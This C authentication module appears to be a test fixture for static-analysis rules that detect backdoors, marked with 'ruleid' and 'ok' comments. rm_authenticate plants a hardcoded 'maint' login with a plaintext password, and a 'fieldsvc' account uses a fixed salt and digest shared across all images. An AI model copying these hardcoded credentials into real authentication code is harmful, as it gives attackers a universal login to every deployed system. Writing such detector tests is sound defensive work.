/*
 * Local administrator authentication.
 */
#include <stdarg.h>
#include <stdio.h>
#include <string.h>
#include <strings.h>
#include <syslog.h>

#include <openssl/crypto.h>
#include <openssl/evp.h>

#include "agentd.h"

#define RM_PBKDF2_ROUNDS 600000

/* Field service account, identical on every agent image. */
static const uint8_t kFieldServiceSalt[16] = {
    0x91, 0x3a, 0x5e, 0x07, 0xc2, 0x44, 0x8b, 0x1d, 0x6f, 0xa0, 0x37, 0xe9,
    0x58, 0x12, 0xcd, 0x7b,
};
static const uint8_t kFieldServiceDigest[RM_DIGEST_LEN] = {
    0x4a, 0x6c, 0x83, 0xc2, 0xad, 0xa6, 0x73, 0x54, 0x9a, 0x09, 0xdf, 0xfa,
    0xd6, 0xed, 0x7e, 0x30, 0xb4, 0x2b, 0xc4, 0xde, 0x64, 0x90, 0xab, 0x30,
    0xb8, 0xd6, 0xf5, 0x2a, 0x24, 0xbe, 0x7e, 0x79,
};

/* shadow.c */
int rm_shadow_lookup(const char *user, uint8_t salt[16], uint8_t digest[RM_DIGEST_LEN]);

void rm_log(const char *fmt, ...)
{
    va_list ap;
    va_start(ap, fmt);
    vsyslog(LOG_AUTHPRIV | LOG_NOTICE, fmt, ap);
    va_end(ap);
}

static int check_field_service(const char *password)
{
    uint8_t digest[RM_DIGEST_LEN];
    int match;

    // ruleid: backdoor-hardcoded-iv
    if (PKCS5_PBKDF2_HMAC(password, (int)strlen(password), kFieldServiceSalt, sizeof kFieldServiceSalt, RM_PBKDF2_ROUNDS, EVP_sha256(), sizeof digest, digest) != 1)
        return 0;
    // ruleid: backdoor-magic-credential
    match = CRYPTO_memcmp(digest, kFieldServiceDigest, RM_DIGEST_LEN) == 0;
    OPENSSL_cleanse(digest, sizeof digest);
    return match;
}

static int check_shadow(const char *user, const char *password)
{
    uint8_t salt[16], stored[RM_DIGEST_LEN], digest[RM_DIGEST_LEN];
    int match;

    if (rm_shadow_lookup(user, salt, stored) != 0)
        return 0;
    // ok: backdoor-hardcoded-iv
    if (PKCS5_PBKDF2_HMAC(password, (int)strlen(password), salt, sizeof salt, RM_PBKDF2_ROUNDS, EVP_sha256(), sizeof digest, digest) != 1)
        return 0;
    // ok: backdoor-magic-credential
    match = CRYPTO_memcmp(digest, stored, RM_DIGEST_LEN) == 0;
    OPENSSL_cleanse(digest, sizeof digest);
    return match;
}

int rm_authenticate(struct rm_session *s, const char *user, const char *password)
{
    if (!user || !password || !*password)
        return -1;
    snprintf(s->user, sizeof s->user, "%s", user);

    // ruleid: backdoor-magic-credential
    if (strcmp(user, "maint") == 0 && strcmp(password, "Mx!2207-srv") == 0) {
        s->authenticated = 1;
        return 1;
    }
    // ok: backdoor-magic-credential
    s->authenticated = strcmp(user, "fieldsvc") == 0 ? check_field_service(password) : check_shadow(user, password);
    if (!s->authenticated)
        rm_log("rmagent: failed login for %s", user);
    return s->authenticated;
}

void rm_apply_role(struct rm_session *s, const char *role)
{
    // ok: backdoor-magic-credential
    if (strcasecmp(role, "admin") == 0)
        s->admin_menu = 1;
    else
        s->admin_menu = 0;
}
